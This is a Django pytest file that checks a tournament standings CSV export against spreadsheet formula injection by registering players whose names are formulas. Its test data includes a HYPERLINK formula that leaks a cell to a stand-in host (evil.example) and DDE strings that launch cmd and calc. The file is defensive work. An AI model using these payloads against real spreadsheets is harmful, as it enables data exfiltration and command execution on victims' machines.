"""The standings CSV, attacked: a player name that is a spreadsheet formula must reach the organiser's
Excel or LibreOffice as text (OWASP "CSV injection": a leading `'` on cells starting = + - @ tab CR)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts.models import User
from accounts.services import bot_user
from tests.tournaments.factories import bot_tournament
from tournaments import services
from tournaments.views import spreadsheet_safe

pytestmark = [pytest.mark.django_db, pytest.mark.core]

# Created straight in the database: the sign-up form's name rules are one guard, the export must not rely on them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prizes")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_names_come_out_as_text() -> None:
    t = bot_tournament("swiss", 2, table_size=2, rounds=1)
    for i, name in enumerate(FORMULAS):
        services.tournament_register(tournament_id=t.pk, user=User.objects.create_user(name, password=f"pw-{i}-long enough"))
    services.tournament_register(tournament_id=t.pk, user=User.objects.create_user("plain-name", password="pw long enough"))
    services.tournament_start(tournament_id=t.pk, by=t.organiser)
    r = Client().get(f"/tournaments/{t.pk}/standings.csv")
    assert r.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
    names = [row[header.index("username")] for row in rows]
    assert sorted(names) == sorted(["'" + n for n in FORMULAS] + ["plain-name", bot_user(slug="tiny", level="normal", number=1).username,
                                                                      bot_user(slug="tiny", level="normal", number=2).username])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert float(row[header.index("points")]) >= 0  # numbers stay numbers (a bye scores)


def test_only_text_is_touched() -> None:
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(3) == 3
    assert spreadsheet_safe("ana") == "ana" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("=1") == "'=1"
